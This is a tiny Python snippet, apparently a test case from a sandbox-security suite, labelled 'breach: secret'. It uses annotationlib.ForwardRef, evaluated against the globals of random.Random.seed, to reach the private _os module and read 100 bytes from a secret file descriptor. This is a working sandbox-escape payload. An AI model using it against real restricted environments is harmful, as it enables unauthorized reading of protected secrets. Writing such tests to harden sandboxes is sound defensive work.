# A forward reference takes its names from the globals of its owner, a function of the library.
# breach: secret
# only: 3.14+
import annotationlib, random
annotationlib.ForwardRef("_os.pread(SECRET_FD, 100, 0)", owner=random.Random.seed).evaluate(
    globals=random.Random.seed.__globals__, locals={"SECRET_FD": SECRET_FD})
